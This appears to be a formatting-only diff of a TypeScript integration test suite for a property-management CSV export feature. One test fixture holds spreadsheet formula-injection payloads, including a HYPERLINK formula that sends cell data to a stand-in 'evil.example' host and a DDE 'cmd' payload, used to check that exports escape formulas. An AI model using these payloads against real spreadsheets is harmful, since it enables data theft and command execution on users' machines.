@@ -112,22 +112,34 @@ const seed: { [E in Entity]: InputOf[E][][] } = {
   ],
   lease: [
     [
-      leaseInput('L1', { property: 'P1', unit: 'U1', residents: people('R1', 'R2') }, {
-        notes: 'Line1\r\nLine2, "x"',
-        concessions: '1 month free; 50% off',
-        is_renewal: true,
-        rent_amount: { amount: 150000, currency: 'JPY' },
-        security_deposit: null,
-        balance: { amount: -2550, currency: 'USD' },
-        start_date: '2025-01-01',
-        end_date: null,
-      }),
+      leaseInput(
+        'L1',
+        { property: 'P1', unit: 'U1', residents: people('R1', 'R2') },
+        {
+          notes: 'Line1\r\nLine2, "x"',
+          concessions: '1 month free; 50% off',
+          is_renewal: true,
+          rent_amount: { amount: 150000, currency: 'JPY' },
+          security_deposit: null,
+          balance: { amount: -2550, currency: 'USD' },
+          start_date: '2025-01-01',
+          end_date: null,
+        },
+      ),
       leaseInput('L2', { property: 'P1', unit: 'U2', residents: people('R2') }, { status: 'pending', start_date: '2025-03-01', end_date: '2026-02-28' }),
-      leaseInput('L3', { property: 'P2', unit: 'U3', residents: people('R3') }, { status: 'active', start_date: '2025-03-01', end_date: null, is_renewal: null }),
+      leaseInput(
+        'L3',
+        { property: 'P2', unit: 'U3', residents: people('R3') },
+        { status: 'active', start_date: '2025-03-01', end_date: null, is_renewal: null },
+      ),
     ],
     [
       leaseInput('L4', { property: 'P3', unit: 'U4', residents: people('R4') }, { status: 'ended', start_date: '2024-01-01', end_date: '2024-12-31' }),
-      leaseInput('L5', { property: 'P3', unit: 'U5', residents: people('R5', 'R4') }, { status: 'active', start_date: '2025-06-01', end_date: '2025-12-31', is_renewal: false }),
+      leaseInput(
+        'L5',
+        { property: 'P3', unit: 'U5', residents: people('R5', 'R4') },
+        { status: 'active', start_date: '2025-06-01', end_date: '2025-12-31', is_renewal: false },
+      ),
     ],
     [leaseInput('LX', { property: 'P3', unit: 'U4', residents: people('RX') }, { status: 'active', start_date: '2025-05-01' })],
   ],
@@ -138,7 +150,8 @@ beforeAll(async () => {
   a = await makeTenant(db);
   A = { id: a.integrationId, organizationId: a.organizationId, mode: 'test' };
   const source = { base_url: 'http://127.0.0.1:1', api_key: 'unused' };
-  const more = async () => (await createIntegration(db, { organizationId: a.organizationId, mode: 'test', plan: 'scale', sourceType: 'sandbox', sourceConfig: source }, ring)).id;
+  const more = async () =>
+    (await createIntegration(db, { organizationId: a.organizationId, mode: 'test', plan: 'scale', sourceType: 'sandbox', sourceConfig: source }, ring)).id;
   A2 = { id: await more(), organizationId: a.organizationId, mode: 'test' };
   A3 = { id: await more(), organizationId: a.organizationId, mode: 'test' };
   live = await makeTenant(db, { mode: 'live' });
@@ -200,7 +213,13 @@ afterAll(async () => {
 // Helpers
 // ---------------------------------------------------------------------------------------------------------------
 
-const deps = (over: Partial<ExportDeps> = {}): ExportDeps => ({ databaseUrl: inject('databaseUrl'), secrets: ring, exportRoot: root, timeoutMs: 10_000, ...over });
+const deps = (over: Partial<ExportDeps> = {}): ExportDeps => ({
+  databaseUrl: inject('databaseUrl'),
+  secrets: ring,
+  exportRoot: root,
+  timeoutMs: 10_000,
+  ...over,
+});
 
 function automation(entity: Entity, over: Partial<ExportedAutomation> = {}, integration: Ref = A): ExportedAutomation {
   return {
@@ -223,7 +242,11 @@ function parseCsv(body: Buffer): (string | null)[][] {
 
 /** Exports over HTTP and returns the file's rows as the destination received it. */
 async function exportRows(entity: Entity, filters: Record<string, string>, opts: { integration?: Ref; columns?: string[]; escapeFormulas?: boolean } = {}) {
-  const destination = { type: 'http' as const, url: `${base}/ok/${randomUUID()}`, ...(opts.escapeFormulas === undefined ? {} : { escape_formulas: opts.escapeFormulas }) };
+  const destination = {
+    type: 'http' as const,
+    url: `${base}/ok/${randomUUID()}`,
+    ...(opts.escapeFormulas === undefined ? {} : { escape_formulas: opts.escapeFormulas }),
+  };
   const atm = automation(entity, { filters, columns: opts.columns ?? null, destination }, opts.integration);
   const result = await exportAutomation(deps(), { automation: atm, integration: opts.integration ?? A, fileName: 'x.csv' });
   const req = received.get(new URL((atm.destination as { url: string }).url).pathname)!;
@@ -238,7 +261,8 @@ async function apiRecords(entity: Entity, params: Record<string, string>, integr
   const principal = { organizationId: integration.organizationId, mode: integration.mode };
   const out: Record<string, unknown>[] = [];
   for (let offset = 0; ; offset += 100) {
-    const q = LIST_QUERIES[entity].parse({ ...params, integration_id: integration.id, limit: '100', offset: String(offset) }) as CommonListQuery & FiltersOf[Entity];
+    const q = LIST_QUERIES[entity].parse({ ...params, integration_id: integration.id, limit: '100', offset: String(offset) }) as CommonListQuery &
+      FiltersOf[Entity];
     const page = await listRecords(db, entity, principal, q);
     for (const r of page.results as { id: string }[]) {
       // The property list serves a summary; the record is what GET /v1/properties/{id} serves.
@@ -346,7 +370,10 @@ describe('the file is the list the API serves', () => {
       end_date: null,
     });
     expect(byX.get('L5')).toMatchObject({ is_renewal: 'false' });
-    expect(JSON.parse(byX.get('L1')!.residents!)).toEqual([expect.objectContaining({ x_id: 'R1', role: 'primary' }), expect.objectContaining({ x_id: 'R2', role: 'responsible' })]);
+    expect(JSON.parse(byX.get('L1')!.residents!)).toEqual([
+      expect.objectContaining({ x_id: 'R1', role: 'primary' }),
+      expect.objectContaining({ x_id: 'R2', role: 'responsible' }),
+    ]);
   });
 
   it('is UTF-8 with a byte order mark and LF line ends, "" for an empty string and nothing for a null', async () => {
@@ -440,9 +467,7 @@ describe('filters, order and visibility as in the API', () => {
       expect(other).toEqual([`Q${entity[0]!.toUpperCase()}`]);
     }
     // An automation is only ever run for its own integration.
-    const err = await failure(
-      exportAutomation(deps(), { automation: automation('lease', {}, A2), integration: { ...A, mode: 'live' }, fileName: 'x.csv' }),
-    );
+    const err = await failure(exportAutomation(deps(), { automation: automation('lease', {}, A2), integration: { ...A, mode: 'live' }, fileName: 'x.csv' }));
     expect(err.permanent).toBe(true);
   });
 
@@ -474,7 +499,7 @@ describe('formula escaping for spreadsheets', () => {
   const FORMULAS = {
     name: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
     description: '+1+1',
-    email: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+    email: "@SUM(1+1)*cmd|' /C calc'!A0",
     tax_id: '-2+3',
     management_company_name: '\t=1+1',
     pet_policy: '\r=1+1',
@@ -482,7 +507,23 @@ describe('formula escaping for spreadsheets', () => {
   };
   let F: Ref;
   beforeAll(async () => {
-    F = { id: (await createIntegration(db, { organizationId: a.organizationId, mode: 'test', plan: 'scale', sourceType: 'sandbox', sourceConfig: { base_url: 'http://127.0.0.1:1', api_key: 'unused' } }, ring)).id, organizationId: a.organizationId, mode: 'test' };
+    F = {
+      id: (
+        await createIntegration(
+          db,
+          {
+            organizationId: a.organizationId,
+            mode: 'test',
+            plan: 'scale',
+            sourceType: 'sandbox',
+            sourceConfig: { base_url: 'http://127.0.0.1:1', api_key: 'unused' },
+          },
+          ring,
+        )
+      ).id,
+      organizationId: a.organizationId,
+      mode: 'test',
+    };
     await apply(F, 'property', [propertyInput('-P1', { ...FORMULAS, latitude: -30.5, longitude: -97.25, year_built: -1 })], at(1));
   });
   const cell = (header: (string | null)[], row: (string | null)[], name: string) => row[header.indexOf(name)];
@@ -525,7 +566,19 @@ describe('one snapshot', () => {
   it('a record whose sort value changes while the file is written is neither skipped nor repeated; the file is the cache as it was', async () => {
     // Residents large enough (about 60 MB of CSV) that Postgres is still writing when the destination stops reading.
     const S: Ref = {
-      id: (await createIntegration(db, { organizationId: a.organizationId, mode: 'test', plan: 'scale', sourceType: 'sandbox', sourceConfig: { base_url: 'http://127.0.0.1:1', api_key: 'unused' } }, ring)).id,
+      id: (
+        await createIntegration(
+          db,
+          {
+            organizationId: a.organizationId,
+            mode: 'test',
+            plan: 'scale',
+            sourceType: 'sandbox',
+            sourceConfig: { base_url: 'http://127.0.0.1:1', api_key: 'unused' },
+          },
+          ring,
+        )
+      ).id,
       organizationId: a.organizationId,
       mode: 'test',
     };
@@ -737,7 +790,9 @@ describe('directory destination', () => {
       message: expect.stringContaining('does not exist'),
     });
     // It says where it looked: the path under the export root, and the root.
-    expect((await failure(exportAutomation(deps(), { automation: missing, integration: A, fileName: 'u.csv' }))).message).toContain(`looked for ${path.resolve(root, 'nope/never')} (EXPORT_ROOT is`);
+    expect((await failure(exportAutomation(deps(), { automation: missing, integration: A, fileName: 'u.csv' }))).message).toContain(
+      `looked for ${path.resolve(root, 'nope/never')} (EXPORT_ROOT is`,
+    );
     const dir = `out/${randomUUID()}`;
     await mkdir(path.join(root, dir));
     await exportAutomation(deps(), { automation: automation('unit', { destination: { type: 'directory', path: dir } }), integration: A, fileName: 'f.csv' });
